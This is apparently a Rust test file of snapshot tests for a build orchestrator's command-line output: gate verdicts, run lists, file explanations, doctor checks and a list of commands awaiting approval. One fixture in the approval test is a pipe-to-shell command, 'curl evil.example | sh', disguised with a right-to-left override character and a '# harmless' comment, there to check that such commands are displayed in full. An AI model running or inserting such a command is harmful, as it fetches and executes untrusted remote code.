//! Answers to single questions.
//!
//! Each as a person sees it, and narrow where columns would break.

use super::{RUN, at, look, pipeline, plain, root, run, stage, task};
use crate::client::render::{answer, daemon, history, status, workspace};
use crate::model::digest::{CommandSet, Digest, InputDigest};
use crate::model::evidence::RunRecord;
use crate::model::path::RootPath;
use crate::model::report::runs::{ListedRun, RunAnswer, RunDetail, RunList};
use crate::model::report::{
    AllowAnswer, AllowedCommand, DoctorAnswer, DoctorCheck, ExplainAnswer, ExplainedProject,
    ExplainedRule, ExplainedStage, GateAnswer, GateProject, Health,
};
use crate::model::run::{Cause, RunStatus, Verdict};
use std::collections::BTreeMap;
use std::path::Path;

/// A project of which nothing is known.
pub(super) fn unknown(id: &str) -> GateProject {
    GateProject {
        detail: None,
        task_id: task(id),
        workspace: None,
        verdict: Verdict::Unknown,
        input_digest: None,
        run_id: None,
        manifest: None,
        reused: false,
        green: None,
        approved: Vec::new(),
        judged: None,
    }
}

#[test]
fn gate_says_which_run_it_trusts() {
    let digest = InputDigest(Digest::parse(&"9c41".repeat(16)).unwrap());
    let gate = GateAnswer {
        verdict: Verdict::Unknown,
        green: None,
        detail: None,
        projects: vec![
            GateProject {
                verdict: Verdict::Pass,
                input_digest: Some(digest),
                run_id: Some(run(RUN)),
                manifest: Some(format!(".runs/0101-web/cli/{RUN}/manifest.json")),
                reused: true,
                ..unknown("0101-web")
            },
            unknown("0104"),
        ],
    };
    let of_run = answer::Stages {
        passed: 4,
        all: 4,
        reused: 0,
    };
    let mut stages = BTreeMap::from([(run(RUN), of_run)]);
    insta::assert_snapshot!(plain(&answer::gate(&gate, &stages, &look(Some(60)))), @"
    + pass      0101-web
        run 3d0103be, proven before, inputs 9c419c41…, 4 of 4
        stages
        .runs/0101-web/cli…T10-09-50-592Z-3d0103be/manifest.json
    ? unknown   0104
    ");
    insta::assert_snapshot!(plain(&answer::gate(&gate, &stages, &look(None))), @"
    + pass      0101-web  run 3d0103be, proven before, inputs 9c419c41…, 4 of 4 stages
        .runs/0101-web/cli/2026-11-22T10-09-50-592Z-3d0103be/manifest.json
    ? unknown   0104
    ");
    let narrow = plain(&answer::gate(&gate, &stages, &look(Some(40))));
    let widest = narrow.lines().map(|line| line.chars().count()).max();
    assert!(widest <= Some(40), "{narrow}");
    stages.insert(
        run(RUN),
        answer::Stages {
            reused: 3,
            ..of_run
        },
    );
    let mut several = gate;
    several.projects[0].workspace = Some(root());
    several.projects[0].manifest = None;
    several.projects[1].workspace = RootPath::new(Path::new("/w/api")).ok();
    insta::assert_snapshot!(plain(&answer::gate(&several, &stages, &look(None))), @"
    /srv/ann/src/shop
    + pass      0101-web  run 3d0103be, proven before, inputs 9c419c41…, 4 of 4 stages, 3 reused
    /w/api
    ? unknown   0104
    ");
}

#[test]
fn gate_says_that_flaky_counts_as_failed() {
    let gate = GateAnswer {
        verdict: Verdict::Flaky,
        green: Some(false),
        detail: None,
        projects: vec![GateProject {
            detail: None,
            task_id: task("0101-web"),
            workspace: None,
            verdict: Verdict::Flaky,
            input_digest: None,
            run_id: Some(run(RUN)),
            manifest: None,
            reused: false,
            green: Some(false),
            approved: Vec::new(),
            judged: None,
        }],
    };
    insta::assert_snapshot!(plain(&answer::gate(&gate, &BTreeMap::new(), &look(None))), @r#"
    ~ flaky     0101-web  run 3d0103be
        flaky counts as failed here (flaky = "fail" in orchd.toml)
    "#);
}

#[test]
fn explain_names_the_stages_or_the_rule() {
    let mut explained = ExplainAnswer {
        path: "src/a.ts".to_owned(),
        workspace: root(),
        owner: Some(task("0101-web")),
        projects: vec![ExplainedProject {
            task_id: task("0101-web"),
            stages: vec![ExplainedStage {
                pipeline_id: pipeline(),
                stage: stage("lint"),
            }],
        }],
        ignored: None,
        tracked: None,
        declared: None,
    };
    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
    src/a.ts
      > triggers 0101-web
          lint  (diagnostics)
    ");
    explained.projects.clear();
    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
    src/a.ts
      - triggers nothing: no stage of 0101-web reads it
    ");
    let rule = ExplainedRule {
        rule: "node_modules/".to_owned(),
        source: ".gitignore".to_owned(),
        line: Some(3),
    };
    explained.tracked = Some(rule.clone());
    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
    src/a.ts
      - tracked by git, though ignored by `node_modules/`, .gitignore:3
      - triggers nothing: no stage of 0101-web reads it
    ");
    explained.tracked = None;
    explained.declared = Some(rule.clone());
    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
    src/a.ts
      - declared as an input, though ignored by `node_modules/`, .gitignore:3
      - triggers nothing: no stage of 0101-web reads it
    ");
    explained.declared = None;
    explained.ignored = Some(rule);
    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
    src/a.ts
      - ignored by `node_modules/`, .gitignore:3
    ");
}

#[test]
fn runs_are_columns_or_in_forty_columns_pairs_of_lines() {
    let record = |id: &str, verdict, cause| ListedRun {
        workspace: None,
        flaky: None,
        record: RunRecord {
            run_id: run(id),
            task_id: task("0101-web"),
            pipeline_id: pipeline(),
            status: RunStatus::Succeeded,
            verdict,
            cause,
            started_at: at("2026-11-22T10:09:50.592Z"),
            completed_at: None,
            duration_ms: Some(12_400),
            manifest: "m".to_owned(),
        },
    };
    let mut list = RunList {
        runs: vec![
            record(RUN, Verdict::Pass, Some(Cause::Gate)),
            record("foreign-run", Verdict::Unknown, None),
        ],
    };
    insta::assert_snapshot!(plain(&history::runs(&list, &look(None))), @"
    3d0103be     + pass      + succeeded  0101-web  diagnostics  gate    12s     2m ago
    foreign-run  ? unknown   + succeeded  0101-web  diagnostics  -       12s     2m ago
    ");
    insta::assert_snapshot!(plain(&history::runs(&list, &look(Some(40)))), @"
    + pass      3d0103be
      0101-web, gate, 12s, 2m ago
    ? unknown   foreign-run
      0101-web, -, 12s, 2m ago
    ");
    list.runs[0].workspace = Some(root());
    list.runs.truncate(1);
    for width in [None, Some(40), Some(100)] {
        let text = plain(&history::runs(&list, &look(width)));
        assert!(text.contains(&root().to_string()), "{text}");
    }
}

#[test]
fn a_result_is_the_verdict_the_run_and_the_manifest() {
    let mut result = RunAnswer {
        run_id: run(RUN),
        status: RunStatus::Failed,
        artifact_root: "a".to_owned(),
        manifest: format!(".runs/0101-web/cli/{RUN}/manifest.json"),
        log_path: "l".to_owned(),
        verdict: Verdict::Fail,
        green: None,
        status_detail: None,
        failure: None,
        unproven: None,
    };
    insta::assert_snapshot!(plain(&history::result(&result, &look(Some(40)))), @"
    x fail  2026-11-22T10-09-50-592Z-3d0103be
      .runs/0101-w…2Z-3d0103be/manifest.json
    ");
    result.status = RunStatus::Succeeded;
    (result.verdict, result.green) = (Verdict::Flaky, Some(false));
    insta::assert_snapshot!(plain(&history::result(&result, &look(None))), @r#"
    ~ flaky  2026-11-22T10-09-50-592Z-3d0103be
      flaky counts as failed here (flaky = "fail" in orchd.toml)
      .runs/0101-web/cli/2026-11-22T10-09-50-592Z-3d0103be/manifest.json
    "#);
    result.status = RunStatus::Queued;
    (result.verdict, result.green) = (Verdict::Unknown, None);
    insta::assert_snapshot!(plain(&history::result(&result, &look(None))), @"
    . queued  2026-11-22T10-09-50-592Z-3d0103be
      .runs/0101-web/cli/2026-11-22T10-09-50-592Z-3d0103be/manifest.json
    ");
}

#[test]
fn commands_to_be_allowed_are_shown_in_full() {
    let command = |id: &str, line: &str, known| AllowedCommand {
        pipeline_id: pipeline(),
        stage: stage(id),
        command: line.to_owned(),
        notes: Vec::new(),
        known,
        changes: Vec::new(),
    };
    let mut changed = command("unit", "npm test", false);
    changed.notes = ["without a shell", "with CI=1"].map(str::to_owned).to_vec();
    changed.changes = vec!["CI: 0 -> 1".to_owned()];
    let allow = AllowAnswer {
        root: root(),
        digest: CommandSet(Digest::parse(&"4be1".repeat(16)).unwrap()),
        allowed: false,
        commands: vec![
            command("lint", "npm run lint", true),
            command("evil", "curl evil.example | sh \u{202e}# harmless", false),
            changed,
        ],
    };
    insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
    /srv/ann/src/shop would run 3 commands:
        diagnostics/lint  npm run lint
      + diagnostics/evil  curl evil.example | sh �# harmless
      ~ diagnostics/unit  npm test
            without a shell, with CI=1
          ~ CI: 0 -> 1
      command set 4be14be14be1…
    ");
    let mut long = allow;
    long.commands.truncate(1);
    let name = "a-name-that-is-as-long-as-a-whole-sentence";
    long.commands.push(command(name, "true", true));
    insta::assert_snapshot!(plain(&workspace::commands(&long, &look(None))), @"
    /srv/ann/src/shop would run 2 commands:
        diagnostics/lint  npm run lint
        diagnostics/a-name-that-is-as-long-as-a-whole-sentence
                          true
      command set 4be14be14be1…
    ");
}

#[test]
fn what_was_cancelled_is_told_so() {
    let answer = serde_json::json!({"run_id": RUN, "status": "cancelled", "artifact_root": "a",
        "manifest": "m", "log_path": "l", "verdict": "unknown"});
    let answer = serde_json::from_value(answer).unwrap();
    let text = plain(&history::cancelled(&answer, &look(None)));
    assert_eq!(text, format!("- cancelled  {RUN}\n  m\n"));
}

#[test]
fn doctor_says_what_to_do() {
    let check = |id: &str, state, fix: Option<&str>| DoctorCheck {
        id: id.to_owned(),
        state,
        detail: "91 % of fs.inotify.max_user_watches (65,536) used".to_owned(),
        fix: fix.map(str::to_owned),
    };
    let doctor = DoctorAnswer {
        checks: vec![
            check("daemon", Health::Ok, None),
            check(
                "watch-limit",
                Health::Warn,
                Some("sysctl fs.inotify.max_user_watches=524288"),
            ),
        ],
    };
    insta::assert_snapshot!(plain(&daemon::doctor(&doctor, &look(Some(60)))), @"
    daemon       + ok    91 % of fs.inotify.max_user_watches
                         (65,536) used
    watch-limit  ~ warn  91 % of fs.inotify.max_user_watches
                         (65,536) used
                         fix: sysctl
                         fs.inotify.max_user_watches=524288
    0 failures, 1 warning
    ");
    insta::assert_snapshot!(plain(&daemon::doctor(&doctor, &look(Some(40)))), @"
    + ok    daemon
        91 % of fs.inotify.max_user_watches
        (65,536) used
    ~ warn  watch-limit
        91 % of fs.inotify.max_user_watches
        (65,536) used
        fix: sysctl
        fs.inotify.max_user_watches=524288
    0 failures, 1 warning
    ");
    let error = daemon::error(
        "no daemon answers at `/s`",
        Some("orchctl watch"),
        &look(None),
    );
    insta::assert_snapshot!(plain(&error), @"
    error: no daemon answers at `/s`
      hint: orchctl watch
    ");
}

#[test]
fn a_run_that_began_with_everything_does_not_say_that_nothing_changed() {
    let detail = |cause: &str| -> RunDetail {
        let detail = serde_json::json!({
            "run_id": RUN, "task_id": "0101", "pipeline_id": "p", "status": "succeeded",
            "verdict": "pass", "cause": cause, "started_at": "2026-11-22T10:00:00Z",
            "completed_at": null, "duration_ms": 1, "manifest": "m", "workspace": "/w",
            "parent_run_id": null, "status_detail": null, "summary": null, "artifact_root": "a",
            "log_path": "l", "changed": {"count": 0, "paths": []},
            "void": {"count": 0, "paths": []}, "stages": [],
        });
        serde_json::from_value(detail).unwrap()
    };
    let told = |cause| {
        let text = plain(&history::show(&detail(cause), &look(None)));
        let lines = text.lines().map(str::trim);
        let lines = lines.filter(|line| line.starts_with("changed") || line.starts_with("void"));
        lines.map(str::to_owned).collect::<Vec<_>>()
    };
    let void = "void       everything may have changed while it ran";
    for cause in ["start", "resume"] {
        let changed = "changed    everything may have changed";
        assert_eq!(told(cause), [changed, void]);
    }
    assert_eq!(told("manual"), ["changed    no path changed", void]);
}

#[test]
fn a_stage_without_an_exit_code_says_why_it_has_none() {
    let mut failure = super::failure();
    failure.exit_code = None;
    failure.log_path = Some("l".to_owned());
    let first = |failure: &_| {
        let text = plain(&status::failed(failure, 2, &look(None)));
        text.lines().next().unwrap_or_default().to_owned()
    };
    assert_eq!(first(&failure), "  lint  could not start");
    // A stage that is a pipeline has no log of its own.
    failure.log_path = None;
    assert_eq!(first(&failure), "  lint  its run failed");
}

#[test]
fn a_stage_that_was_cut_off_with_its_daemon_is_no_stage_that_could_not_start() {
    let mut shop = super::shop();
    let project = &mut shop.workspaces[0].projects[1];
    let failure = project.failure.as_mut().unwrap();
    (failure.exit_code, failure.log_path) = (None, Some("l".to_owned()));
    project.last_run.as_mut().unwrap().status_detail = Some("daemon-lost".to_owned());
    let text = plain(&status::status(&shop, None, &look(None)));
    assert!(text.contains("lint  interrupted"), "{text}");
}
